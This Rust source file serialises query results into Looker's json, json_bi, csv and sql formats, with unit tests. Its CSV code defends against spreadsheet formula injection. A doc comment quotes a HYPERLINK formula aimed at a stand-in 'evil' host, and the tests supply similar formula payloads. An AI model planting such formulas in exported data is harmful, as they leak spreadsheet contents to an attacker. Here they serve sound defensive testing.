//! Query results in Looker's result formats: `json` (an array of rows keyed
//! `view.field`), `json_bi` (field metadata plus the rows), `csv` (a header
//! of field labels) and `sql` (the statement and its bound values).
//!
//! Values are shown as Looker shows them unformatted: numbers as numbers,
//! yes/no as `"Yes"`/`"No"`, dates as `2024-01-31`, months as `2024-01`,
//! quarters as `2024-Q1`, years as numbers, times as `2024-01-31 13:45:00`.

use std::collections::BTreeMap;
use std::str::FromStr;

use arrow_array::cast::AsArray;
use arrow_array::types::{
    Date32Type, Date64Type, Float16Type, Float32Type, Float64Type, Int8Type, Int16Type, Int32Type, Int64Type,
    TimestampMicrosecondType, TimestampMillisecondType, TimestampNanosecondType, TimestampSecondType, UInt8Type,
    UInt16Type, UInt32Type, UInt64Type,
};
use arrow_array::{Array, RecordBatch};
use arrow_schema::{DataType, TimeUnit};
use chrono::{DateTime, Datelike, NaiveDate};
use ponte_semantic::compile::{CompiledQuery, FieldKind, OutputColumn, QueryParam};
use serde_json::{Map, Value, json};

/// A result format of Looker's run endpoints that ponte serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResultFormat {
    /// An array of rows, each an object keyed `view.field`.
    Json,
    /// Field metadata and the rows.
    JsonBi,
    /// Comma-separated values with a header of field labels.
    Csv,
    /// The SQL statement, with its bound values as comments.
    Sql,
}

/// Every format by its name in URLs.
const FORMATS: [(&str, ResultFormat); 4] = [
    ("json", ResultFormat::Json),
    ("json_bi", ResultFormat::JsonBi),
    ("csv", ResultFormat::Csv),
    ("sql", ResultFormat::Sql),
];

/// A format name ponte does not serve (Looker's images, spreadsheets, …).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("result format `{0}` is not supported; use json, json_bi, csv or sql")]
pub struct UnknownFormat(pub String);

impl FromStr for ResultFormat {
    type Err = UnknownFormat;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        FORMATS.iter().find(|(name, _)| *name == s).map(|(_, f)| *f).ok_or_else(|| UnknownFormat(s.to_owned()))
    }
}

impl ResultFormat {
    /// The response's `Content-Type`.
    pub fn content_type(self) -> &'static str {
        match self {
            ResultFormat::Json | ResultFormat::JsonBi => "application/json",
            ResultFormat::Csv => "text/csv; charset=utf-8",
            ResultFormat::Sql => "text/plain; charset=utf-8",
        }
    }
}

/// The SQL and its parameters, as the `sql` format shows them.
pub fn sql_text(query: &CompiledQuery) -> String {
    let mut text = query.sql.clone();
    for (i, p) in query.params.iter().enumerate() {
        let value = match p {
            QueryParam::Null => "NULL".to_owned(),
            QueryParam::Bool(b) => b.to_string(),
            QueryParam::Int(i) => i.to_string(),
            QueryParam::Float(f) => f.to_string(),
            QueryParam::String(s) => format!("'{}'", s.replace('\'', "''")),
            QueryParam::Date(d) => format!("DATE '{d}'"),
            QueryParam::Timestamp(t) => format!("TIMESTAMP '{}'", t.format("%Y-%m-%d %H:%M:%S%.f UTC")),
        };
        text.push_str(&format!("\n-- ${} = {value}", i + 1));
    }
    text
}

/// Rows as JSON objects keyed `view.field`, in the query's column order.
pub fn json_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> Vec<Value> {
    let mut rows = Vec::with_capacity(batches.iter().map(RecordBatch::num_rows).sum());
    for batch in batches {
        // Result columns are found by their SQL alias, not position.
        let columns: Vec<(&OutputColumn, Option<&dyn Array>)> = query
            .columns
            .iter()
            .map(|c| (c, batch.column_by_name(&c.alias).map(|a| a.as_ref() as &dyn Array)))
            .collect();
        for row in 0..batch.num_rows() {
            let mut object = Map::with_capacity(columns.len());
            for (column, array) in &columns {
                let value = array.map_or(Value::Null, |a| cell(a, row, column));
                object.insert(column.name.clone(), value);
            }
            rows.push(Value::Object(object));
        }
    }
    rows
}

/// The `json_bi` document: Looker's `JsonBi` shape.
pub fn json_bi(query: &CompiledQuery, filters: &BTreeMap<String, String>, batches: &[RecordBatch]) -> Value {
    let field = |c: &OutputColumn| {
        let (view, _) = c.name.split_once('.').unwrap_or(("", &c.name));
        let category = match c.kind {
            FieldKind::Dimension => "dimension",
            FieldKind::Measure => "measure",
        };
        json!({
            "name": c.name, "label": c.label, "type": c.field_type, "category": category,
            "view": view, "view_label": view, "dimension_group": Value::Null, "field_group_label": Value::Null,
            "field_group_variant": c.label, "hidden": false, "description": Value::Null, "sql": Value::Null,
            "value_format": c.value_format,
        })
    };
    let of_kind = |kind| query.columns.iter().filter(|c| c.kind == kind).map(field).collect::<Vec<_>>();
    json!({
        "metadata": {
            "big_query_metadata": { "total_bytes_processed": 0, "backend_cache_hit": false },
            "fields": {
                "dimensions": of_kind(FieldKind::Dimension),
                "measures": of_kind(FieldKind::Measure),
                "pivots": [],
                "table_calculations": [],
            },
            "pivots": [],
            "has_subtotals": false,
            "has_totals": false,
            "columns_truncated": "false",
            "filter_expression": Value::Null,
            "filters": filters,
            "sql": sql_text(query),
        },
        "rows": json_rows(query, batches),
    })
}

/// CSV with a header of field labels; values as in `json`, quoted where
/// needed (RFC 4180), text neutralised against formula injection (see
/// [`csv_text`]).
pub fn csv(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
    let mut out = csv_header(query);
    for batch in batches {
        out.push_str(&csv_rows(query, std::slice::from_ref(batch)));
    }
    out
}

/// The CSV header line: the columns' labels.
pub fn csv_header(query: &CompiledQuery) -> String {
    let header: Vec<String> = query.columns.iter().map(|c| csv_text(&c.label)).collect();
    format!("{}\r\n", header.join(","))
}

/// The CSV lines of `batches`' rows, without a header: a download streams
/// them a batch at a time.
pub fn csv_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
    let mut out = String::new();
    for row in json_rows(query, batches) {
        let Value::Object(object) = row else { continue };
        let cells: Vec<String> = query
            .columns
            .iter()
            .map(|c| match object.get(&c.name) {
                None | Some(Value::Null) => String::new(),
                Some(Value::String(s)) => csv_text(s),
                // Numbers and booleans as JSON writes them: `-5` stays a
                // number in the spreadsheet.
                Some(other) => other.to_string(),
            })
            .collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

/// A text cell, safe to open in a spreadsheet. A cell starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, Google
/// Sheets and LibreOffice, so a customer-controlled value such as
/// `=HYPERLINK("https://evil/?"&A2,"Click")` would run in the spreadsheet
/// of whoever opens the download. As OWASP recommends, such a cell gets a
/// leading `'` (shown as text, not evaluated) and every cell with a
/// quote, separator or line break is quoted with its quotes doubled.
pub fn csv_text(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let cell = if formula { format!("'{text}") } else { text.to_owned() };
    if cell.contains([',', '"', '\n', '\r']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell }
}

/// A result streamed as a response body in `format` (`csv` or `json`; the
/// others are built whole): the header or opening bracket, then each
/// batch's rows as they arrive. A failure half-way ends the body with an
/// error, so the client sees a broken transfer, never a short file that
/// looks complete.
pub fn stream_body(
    query: CompiledQuery,
    format: ResultFormat,
    batches: ponte_warehouse::BatchStream,
) -> axum::body::Body {
    use futures::StreamExt as _;
    let query = std::sync::Arc::new(query);
    let opening = match format {
        ResultFormat::Csv => csv_header(&query),
        _ => "[".to_owned(),
    };
    let mut first = true;
    let rows = batches.map(move |batch| {
        let batch = batch.inspect_err(|e| tracing::error!("a streamed result failed: {e}"))?;
        let text = match format {
            ResultFormat::Csv => csv_rows(&query, std::slice::from_ref(&batch)),
            _ => {
                let mut text = String::new();
                for row in json_rows(&query, std::slice::from_ref(&batch)) {
                    if !std::mem::take(&mut first) {
                        text.push(',');
                    }
                    text.push_str(&row.to_string());
                }
                text
            }
        };
        Ok::<_, ponte_warehouse::WarehouseError>(bytes::Bytes::from(text))
    });
    let closing = match format {
        ResultFormat::Csv => None,
        _ => Some(Ok(bytes::Bytes::from_static(b"]"))),
    };
    let body = futures::stream::once(async move { Ok(bytes::Bytes::from(opening)) })
        .chain(rows)
        .chain(futures::stream::iter(closing));
    axum::body::Body::from_stream(body)
}

/// One value as Looker's unformatted JSON shows it.
fn cell(array: &dyn Array, row: usize, column: &OutputColumn) -> Value {
    if array.is_null(row) {
        return Value::Null;
    }
    let float = |f: f64| serde_json::Number::from_f64(f).map_or(Value::Null, Value::Number);
    match array.data_type() {
        DataType::Boolean => {
            let b = array.as_boolean().value(row);
            if column.field_type == "yesno" { Value::from(if b { "Yes" } else { "No" }) } else { Value::Bool(b) }
        }
        DataType::Int8 => Value::from(array.as_primitive::<Int8Type>().value(row)),
        DataType::Int16 => Value::from(array.as_primitive::<Int16Type>().value(row)),
        DataType::Int32 => Value::from(array.as_primitive::<Int32Type>().value(row)),
        DataType::Int64 => Value::from(array.as_primitive::<Int64Type>().value(row)),
        DataType::UInt8 => Value::from(array.as_primitive::<UInt8Type>().value(row)),
        DataType::UInt16 => Value::from(array.as_primitive::<UInt16Type>().value(row)),
        DataType::UInt32 => Value::from(array.as_primitive::<UInt32Type>().value(row)),
        DataType::UInt64 => Value::from(array.as_primitive::<UInt64Type>().value(row)),
        DataType::Float16 => float(array.as_primitive::<Float16Type>().value(row).to_f64()),
        DataType::Float32 => float(f64::from(array.as_primitive::<Float32Type>().value(row))),
        DataType::Float64 => float(array.as_primitive::<Float64Type>().value(row)),
        DataType::Decimal128(_, scale) => {
            let v = array.as_primitive::<arrow_array::types::Decimal128Type>().value(row);
            float(v as f64 / 10f64.powi(i32::from(*scale)))
        }
        DataType::Utf8 => Value::from(array.as_string::<i32>().value(row)),
        DataType::LargeUtf8 => Value::from(array.as_string::<i64>().value(row)),
        DataType::Utf8View => Value::from(array.as_string_view().value(row)),
        DataType::Date32 => {
            let days = array.as_primitive::<Date32Type>().value(row);
            date_value(NaiveDate::from_epoch_days(days), &column.field_type)
        }
        DataType::Date64 => {
            let ms = array.as_primitive::<Date64Type>().value(row);
            date_value(DateTime::from_timestamp_millis(ms).map(|t| t.date_naive()), &column.field_type)
        }
        DataType::Timestamp(unit, _) => {
            let t = match unit {
                TimeUnit::Second => DateTime::from_timestamp(array.as_primitive::<TimestampSecondType>().value(row), 0),
                TimeUnit::Millisecond => {
                    DateTime::from_timestamp_millis(array.as_primitive::<TimestampMillisecondType>().value(row))
                }
                TimeUnit::Microsecond => {
                    DateTime::from_timestamp_micros(array.as_primitive::<TimestampMicrosecondType>().value(row))
                }
                TimeUnit::Nanosecond => {
                    Some(DateTime::from_timestamp_nanos(array.as_primitive::<TimestampNanosecondType>().value(row)))
                }
            };
            t.map_or(Value::Null, |t| Value::from(t.format("%Y-%m-%d %H:%M:%S").to_string()))
        }
        _ => {
            let options = arrow_cast::display::FormatOptions::default();
            arrow_cast::display::ArrayFormatter::try_new(array, &options)
                .map_or(Value::Null, |f| Value::from(f.value(row).to_string()))
        }
    }
}

/// A date shown at its timeframe's granularity.
fn date_value(date: Option<NaiveDate>, field_type: &str) -> Value {
    let Some(d) = date else { return Value::Null };
    match field_type {
        "date_month" => Value::from(d.format("%Y-%m").to_string()),
        "date_quarter" => Value::from(format!("{}-Q{}", d.year(), d.month0() / 3 + 1)),
        "date_year" => Value::from(d.year()),
        _ => Value::from(d.format("%Y-%m-%d").to_string()),
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use arrow_array::{BooleanArray, Date32Array, Float64Array, Int64Array, StringArray};
    use arrow_schema::{Field, Schema};

    use super::*;

    fn column(name: &str, alias: &str, kind: FieldKind, field_type: &str) -> OutputColumn {
        OutputColumn {
            name: name.into(),
            label: name.replace('.', " "),
            kind,
            field_type: field_type.into(),
            value_format: None,
            alias: alias.into(),
        }
    }

    fn sample() -> (CompiledQuery, Vec<RecordBatch>) {
        let columns = vec![
            column("f.mes_month", "f__mes_month", FieldKind::Dimension, "date_month"),
            column("f.mes_quarter", "f__mes_quarter", FieldKind::Dimension, "date_quarter"),
            column("f.ativo", "f__ativo", FieldKind::Dimension, "yesno"),
            column("f.nome", "f__nome", FieldKind::Dimension, "string"),
            column("f.total", "f__total", FieldKind::Measure, "sum"),
            column("f.count", "f__count", FieldKind::Measure, "count"),
        ];
        let schema = Arc::new(Schema::new(vec![
            // Out of order: columns are found by alias.
            Field::new("f__count", DataType::Int64, true),
            Field::new("f__mes_month", DataType::Date32, true),
            Field::new("f__mes_quarter", DataType::Date32, true),
            Field::new("f__ativo", DataType::Boolean, true),
            Field::new("f__nome", DataType::Utf8, true),
            Field::new("f__total", DataType::Float64, true),
        ]));
        let may = NaiveDate::from_ymd_opt(2024, 5, 1).unwrap().to_epoch_days();
        let batch = RecordBatch::try_new(
            schema,
            vec![
                Arc::new(Int64Array::from(vec![3, 1])),
                Arc::new(Date32Array::from(vec![Some(may), None])),
                Arc::new(Date32Array::from(vec![Some(may), Some(may)])),
                Arc::new(BooleanArray::from(vec![true, false])),
                Arc::new(StringArray::from(vec![Some("Ana, \"A\""), None])),
                Arc::new(Float64Array::from(vec![1.5, f64::NAN])),
            ],
        )
        .unwrap();
        let query = CompiledQuery { sql: "SELECT 1".into(), params: vec![], columns, limit: 500 };
        (query, vec![batch])
    }

    #[test]
    fn json_rows_are_keyed_by_field_and_formatted_as_looker_does() {
        let (query, batches) = sample();
        let rows = json_rows(&query, &batches);
        assert_eq!(
            rows[0],
            json!({"f.mes_month": "2024-05", "f.mes_quarter": "2024-Q2", "f.ativo": "Yes",
                   "f.nome": "Ana, \"A\"", "f.total": 1.5, "f.count": 3})
        );
        assert_eq!(rows[1]["f.mes_month"], Value::Null);
        assert_eq!(rows[1]["f.total"], Value::Null, "NaN is not JSON");
        assert_eq!(rows[1]["f.ativo"], "No");
    }

    #[test]
    fn csv_quotes_and_keeps_column_order() {
        let (query, batches) = sample();
        let text = csv(&query, &batches);
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert_eq!(lines[0], "f mes_month,f mes_quarter,f ativo,f nome,f total,f count");
        assert_eq!(lines[1], "2024-05,2024-Q2,Yes,\"Ana, \"\"A\"\"\",1.5,3");
        assert_eq!(lines[2], ",2024-Q2,No,,,1");
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() {
        for (text, cell) in [
            (
                "=HYPERLINK(\"https://x\"&A2,\"Clique aqui\")",
                "\"'=HYPERLINK(\"\"https://x\"\"&A2,\"\"Clique aqui\"\")\"",
            ),
            ("+55 11 5555", "'+55 11 5555"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_text(text), cell, "{text:?}");
        }
        let (mut query, _) = sample();
        query.columns.truncate(1);
        query.columns[0] = column("f.nome", "f__nome", FieldKind::Dimension, "string");
        let schema = Arc::new(Schema::new(vec![
            Field::new("f__nome", DataType::Utf8, true),
            Field::new("f__n", DataType::Int64, true),
        ]));
        query.columns.push(column("f.n", "f__n", FieldKind::Measure, "sum"));
        let batch = RecordBatch::try_new(
            schema,
            vec![Arc::new(StringArray::from(vec!["=1+1"])), Arc::new(Int64Array::from(vec![-5]))],
        )
        .unwrap();
        assert_eq!(csv(&query, &[batch]), "f nome,f n\r\n'=1+1,-5\r\n");
    }

    #[test]
    fn timestamps_of_every_unit_render_as_utc_text() {
        use arrow_array::{TimestampMicrosecondArray, TimestampMillisecondArray, TimestampSecondArray};
        let at = 1_700_000_000i64; // 2023-11-14 22:13:20 UTC
        let arrays: Vec<(arrow_array::ArrayRef, &str)> = vec![
            (Arc::new(TimestampSecondArray::from(vec![at])), "s"),
            (Arc::new(TimestampMillisecondArray::from(vec![at * 1000])), "ms"),
            (Arc::new(TimestampMicrosecondArray::from(vec![at * 1_000_000]).with_timezone("UTC")), "us"),
        ];
        for (array, unit) in arrays {
            let c = column("f.t", "f__t", FieldKind::Dimension, "time");
            assert_eq!(cell(array.as_ref(), 0, &c), json!("2023-11-14 22:13:20"), "{unit}");
        }
    }

    #[test]
    fn formats_by_name() {
        assert_eq!("json_bi".parse::<ResultFormat>(), Ok(ResultFormat::JsonBi));
        assert!("png".parse::<ResultFormat>().unwrap_err().to_string().contains("png"));
    }

    #[test]
    fn sql_shows_the_bound_values_as_comments() {
        let (mut query, _) = sample();
        query.params = vec![QueryParam::String("O'Neil".into()), QueryParam::Int(3)];
        assert_eq!(sql_text(&query), "SELECT 1\n-- $1 = 'O''Neil'\n-- $2 = 3");
    }
}
